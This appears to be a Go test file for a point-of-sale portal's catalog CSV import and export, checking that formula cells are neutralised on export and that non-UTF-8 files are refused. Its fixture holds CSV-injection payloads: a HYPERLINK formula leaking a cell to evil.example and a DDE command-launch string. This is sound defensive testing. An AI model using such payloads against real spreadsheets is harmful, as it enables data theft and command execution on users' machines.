package web

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"posportal/catalog"
	"posportal/internal/auth"
	"posportal/internal/db"
	"posportal/internal/db/dbtest"
)

// A catalog holding formula-like text exports cells a spreadsheet shows as
// text (OWASP CSV injection), numbers stay numbers, and the exported file
// imports back unchanged.
func TestCatalogExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		p := newCatalogPortal(t, d)
		admin := catalogClient(t, p, auth.Admin, "admin@example.test", "en")
		evil := map[string]string{
			"name":           `=HYPERLINK("http://evil.example/?x="&A1,"Walker")`,
			"os":             "+cmd|' /C calc'!A0",
			"certifications": "@SUM(1+1)",
		}
		in := "brand,name,category,os,certifications,purchase_fen\n" +
			`巡途 Xuntu,"` + strings.ReplaceAll(evil["name"], `"`, `""`) + `",mpos,` + evil["os"] + "," + evil["certifications"] + ",25900\n"
		ct, body := catalogCSVUpload(t, in)
		admin.do("POST", "/admin/catalog/import", ct, body).wantStatus(t, http.StatusSeeOther)

		exported := admin.get("/admin/catalog/models.csv").wantStatus(t, http.StatusOK).body
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(exported, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := map[string]int{}
		for i, h := range rows[0] {
			col[h] = i
		}
		var row []string
		for _, r := range rows[1:] {
			if strings.Contains(r[col["name"]], "HYPERLINK") {
				row = r
			}
		}
		if row == nil {
			t.Fatalf("model missing from export:\n%s", exported)
		}
		for field, v := range evil {
			if row[col[field]] != "'"+v {
				t.Errorf("%s exported as %q, want %q", field, row[col[field]], "'"+v)
			}
		}
		if !strings.Contains(exported, `"'=HYPERLINK(`) {
			t.Error("neutralised cell not quoted")
		}
		for _, r := range rows[1:] {
			for _, c := range r {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && strings.TrimLeft(c, "-0123456789.") != "" {
					t.Errorf("cell %q would start a formula", c)
				}
			}
		}
		if row[col["purchase_fen"]] != "25900" {
			t.Errorf("price exported as %q", row[col["purchase_fen"]])
		}

		before, _ := p.srv.Catalog.Models(context.Background(), catalog.Filter{Sort: catalog.SortName})
		ct, body = catalogCSVUpload(t, exported)
		admin.do("POST", "/admin/catalog/import", ct, body).wantStatus(t, http.StatusSeeOther)
		after, _ := p.srv.Catalog.Models(context.Background(), catalog.Filter{Sort: catalog.SortName})
		if len(after) != len(before) {
			t.Fatalf("re-import: %d models, was %d", len(after), len(before))
		}
		for i := range after {
			if after[i].Name != before[i].Name || after[i].OS != before[i].OS || strings.Join(after[i].Certifications, ";") != strings.Join(before[i].Certifications, ";") {
				t.Errorf("re-import changed %q/%q/%v to %q/%q/%v", before[i].Name, before[i].OS, before[i].Certifications, after[i].Name, after[i].OS, after[i].Certifications)
			}
		}
	})
}

// A file that is not UTF-8 (Excel's GBK "CSV") is refused by line, not
// stored as raw bytes or failed with 500 on PostgreSQL.
func TestCatalogImportRefusesNonUTF8(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		p := newCatalogPortal(t, d)
		admin := catalogClient(t, p, auth.Admin, "admin@example.test", "en")
		gbk := "brand,name,category\n巡途 Xuntu,\xd6\xd0\xce\xc4,mpos\n" // 中文 in GBK
		ct, body := catalogCSVUpload(t, gbk)
		res := admin.do("POST", "/admin/catalog/import", ct, body).wantStatus(t, http.StatusUnprocessableEntity)
		wantBody(t, res, "CSV UTF-8")
	})
}
